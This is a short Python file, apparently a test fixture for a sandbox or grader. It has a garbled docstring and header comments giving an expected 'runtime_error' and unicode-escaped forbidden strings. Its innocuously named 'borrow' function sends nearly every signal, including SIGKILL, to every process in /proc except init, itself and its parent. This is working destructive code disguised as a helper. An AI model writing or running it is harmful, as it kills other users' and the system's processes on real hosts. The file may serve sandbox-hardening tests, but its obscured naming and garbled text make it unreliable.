"""Sends every signal that ends nobody, and every one that does, to what it is lent."""
#: others = {lent = "runtime_error"}
#: never = ["\u006eobody can guess", "\u00660c1be7d0b14f"]
import os
import signal

def borrow(secret, number):
    right = secret(number)
    for each in signal.valid_signals() - {signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU}:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):
                try:
                    os.kill(int(name), each)
                except OSError:
                    pass
    return right

def attack(number):
    return "no idea"
